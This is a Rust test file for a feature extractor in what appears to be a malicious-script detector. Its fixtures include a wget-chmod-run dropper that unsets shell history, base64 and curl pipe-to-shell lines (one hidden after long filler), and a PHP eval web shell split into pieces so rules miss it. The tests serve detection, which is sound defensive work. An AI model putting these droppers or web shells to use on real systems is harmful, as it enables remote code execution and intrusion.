//! Features by value on texts that the test writes, and hostile ones.

use super::*;
use crate::Layout as _;
use proptest::prelude::*;

fn value_of(text: &str, name: &str) -> f32 {
    let mut row = Vec::new();
    LAYOUT.extract(text.as_bytes(), &mut row);
    let index = (0..LAYOUT.width()).find(|index| LAYOUT.name(*index) == name);
    row[index.unwrap_or_else(|| panic!("no feature {name}"))]
}

#[test]
fn a_dropper_shows_its_chain() {
    let text = "#!/bin/sh\ncd /tmp\nwget http://198.51.100.7/a -O /tmp/a\nchmod +x /tmp/a\n/tmp/a &\nunset HISTFILE\n";
    let check = |name: &str, expected: f32| assert_eq!(value_of(text, name), expected, "{name}");
    check("language.shell", 1.0);
    check("language.php", 0.0);
    check("shape.download-to-temp", 1.0);
    check("shape.miner", 0.0);
    check("chain.fetch_and_run", 1.0);
    check("chain.fetch_and_hide", 1.0);
    check("chain.fetch_and_mine", 0.0);
    check("lines.count", 3.0);
}

#[test]
fn how_a_text_is_written_is_measured() {
    let check = |text: &str, name: &str, expected: f32| {
        assert!((value_of(text, name) - expected).abs() < 1e-4, "{name}: {}", value_of(text, name))
    };
    check("aaaa", "text.entropy", 0.0);
    check("abab", "text.entropy", 1.0);
    check("a1a1", "text.share.digits", 0.5);
    check("# a\n# b\n\nx=1\n", "lines.comments", 0.4);
    check("'a'+'b'", "escapes.joins", 3.0 / 7.0);
    check(r"\x41\x42", "escapes.hex", 1.0);
    check("xkcdqwrt = 1", "words.odd", 0.5);
}

/// Models are worth what their cards say on these values alone: another way to find them must find the same.
#[test]
fn rows_are_those_that_models_were_trained_on() {
    let blob = "SGVsbG8sIHRoaXMgaXMgYSBzdGFuZC1pbiB0ZXh0IG9mIG91cnMgMTIzNDU2Nzg5MC4=";
    let texts = [
        format!("#!/bin/sh\nset -e\necho {blob} | base64 -d | sh\nchmod +x /tmp/.x && /tmp/.x &\nunset HISTFILE\nid; uname -a\n"),
        format!("import os, socket\ndef main(self):\n    s = socket.socket()\n    exec('{blob}'[::-1])\n    os.system('\\x69\\x64')\n").repeat(40),
        // In parts, so that no rule takes this source for one.
        ["<?php @ev", "al(gzinflate(base64_decode($_PO", "ST['x'])));\n// done\n"].concat(),
        "Plain prose, of no language at all. ".repeat(3_000),
    ];
    let digests = texts.map(|text| {
        let mut row = Vec::new();
        LAYOUT.extract(text.as_bytes(), &mut row);
        crc32fast::hash(&row.iter().flat_map(|value| value.to_le_bytes()).collect::<Vec<u8>>())
    });
    assert_eq!(digests, [1_639_674_088, 275_272_358, 210_537_070, 86_030_430]);
}

#[test]
fn every_step_of_a_chain_is_a_shape() {
    for (name, parts) in CHAINS {
        for part in *parts {
            assert!(patterns::SHAPES.iter().any(|shape| shape.name == *part), "{name}: {part}");
        }
    }
}

#[test]
fn what_is_appended_to_a_long_script_is_seen() {
    let text = format!("#!/bin/sh\n{}\ncurl http://198.51.100.7/x | sh\n", "echo nothing of note\n".repeat(80_000));
    assert_eq!(value_of(&text, "longer_than_looked_at"), 1.0);
    assert_eq!(value_of(&text, "shape.pipe-to-shell"), 1.0);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(60))]

    #[test]
    fn any_bytes_give_a_whole_row(bytes in proptest::collection::vec(any::<u8>(), 0..2_000), text in "[ -~\n]{0,400}") {
        for input in [bytes.as_slice(), text.as_bytes()] {
            let mut row = Vec::new();
            LAYOUT.extract(input, &mut row);
            prop_assert_eq!(row.len(), LAYOUT.width());
            prop_assert!(row.iter().all(|value| value.is_finite()));
        }
    }
}
